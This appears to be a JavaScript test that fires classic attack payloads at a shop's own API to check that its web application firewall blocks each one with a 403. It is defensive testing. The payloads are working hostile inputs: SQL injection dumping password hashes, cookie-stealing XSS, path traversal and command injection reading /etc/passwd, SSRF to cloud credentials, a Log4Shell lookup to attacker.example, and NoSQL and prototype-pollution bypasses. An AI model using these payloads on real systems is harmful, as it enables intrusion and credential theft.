/**
 * The classic payloads a scanner or a curious visitor tries, each where it
 * would do harm: SQL injection and XSS in the search box, a stored XSS in a
 * customer's name, path traversal, SSRF to the cloud metadata address,
 * Log4Shell, command injection, NoSQL operators and prototype pollution in
 * JSON bodies. The edge shield must refuse every one with 403
 * REQUEST_BLOCKED and a reference, before any service sees it, while an
 * honest search still works.
 */
const q = (value) => `/api/products?q=${encodeURIComponent(value)}`;
const PAYLOADS = [
  ['SQL injection in the search box', 'GET', q("' OR 1=1--")],
  ['UNION-based SQL injection', 'GET', q("' UNION SELECT email, password_hash FROM users--")],
  ['reflected XSS in the search box', 'GET', q('<script>alert(document.cookie)</script>')],
  ['stored XSS in a customer name', 'POST', '/api/auth/register', JSON.stringify({ email: 'xss@example.test', password: 'long enough secret', name: '<img src=x onerror=alert(1)>' })],
  ['path traversal', 'GET', q('../../../../etc/passwd')],
  ['SSRF to the cloud metadata address', 'GET', q('http://169.254.169.254/latest/meta-data/iam/security-credentials/')],
  ['Log4Shell lookup', 'GET', q('${jndi:ldap://attacker.example/a}')],
  ['command injection', 'GET', q('mug; cat /etc/passwd')],
  ['NoSQL operators at sign-in', 'POST', '/api/auth/login', JSON.stringify({ email: { $ne: null }, password: { $ne: null } })],
  // Written as text: in an object literal __proto__ sets the prototype and JSON.stringify would drop it.
  ['prototype pollution at registration', 'POST', '/api/auth/register', '{"email":"pp@example.test","password":"long enough secret","name":"Pat","__proto__":{"role":"admin"}}'],
];

export default {
  id: 'waf-payloads',
  title: 'WAF payloads: SQLi, XSS (reflected and stored), traversal, SSRF, Log4Shell, command injection, NoSQL, prototype pollution',
  layer: { number: 1, name: 'Edge shield' },
  stoppedMeans: '403 REQUEST_BLOCKED with an EDGE-… reference for every payload; an honest search still gets 200',
  order: 31,
  async run(ctx) {
    const client = ctx.newClient();
    const evidence = [];
    const got = [];
    for (const [name, method, path, rawBody] of PAYLOADS) {
      const res = await client.call(method, path, rawBody === undefined ? {} : { rawBody });
      const error = res.body?.error;
      evidence.push(`${name}: ${method} → ${res.status} ${error?.code ?? ''} ${error?.reference ?? ''}`.trim());
      if (!(res.status === 403 && error?.code === 'REQUEST_BLOCKED' && /^EDGE-/.test(error.reference ?? ''))) got.push(`${name}: ${res.status} ${res.text.slice(0, 160)}`);
    }
    const honest = await client.call('GET', q("O'Reilly mug"));
    evidence.push(`control: an honest search with an apostrophe → ${honest.status}`);
    if (honest.status !== 200) throw new ctx.SetupError(`the honest search was refused too (${honest.status}): the refusals prove nothing`);
    return { stopped: got.length === 0, evidence: evidence.join('\n'), attackerGot: got.join('\n') };
  },
};
